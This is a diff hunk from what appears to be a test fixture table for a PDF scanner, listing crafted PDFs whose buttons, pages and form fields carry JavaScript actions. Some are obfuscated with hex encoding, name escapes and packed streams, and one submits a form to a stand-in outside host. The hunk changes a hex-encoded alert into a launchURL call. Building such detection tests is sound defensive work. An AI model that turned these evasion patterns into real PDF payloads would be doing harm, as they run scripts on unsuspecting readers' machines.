@@ -79,7 +79,7 @@ PDF_SCRIPTS = {   # E401: a script runs on the reader's machine
     "button-js.pdf": _widget(f"/A {LAUNCH_URL}"),
     "button-js-packed.pdf": _packed_widget(LAUNCH_URL.encode()),
     "button-js-escaped.pdf": _widget("/A << /S /Java#53cript /J#53 (this.submitForm\\('https://x.example.invalid/'\\)) >>"),
-    "button-js-hex.pdf": _widget("/A << /S /JavaScript /JS <" + "app.alert(1)".encode().hex() + "> >>"),
+    "button-js-hex.pdf": _widget("/A << /S /JavaScript /JS <" + "app.launchURL(1)".encode().hex() + "> >>"),
     "button-js-stream.pdf": _widget("/A << /S /JavaScript /JS 4 0 R >>"),
     "page-close-js.pdf": _page_actions(f"/C {LAUNCH_URL}"),
     "field-keystroke-js.pdf": _widget(f"/AA << /K {LAUNCH_URL} >>"),
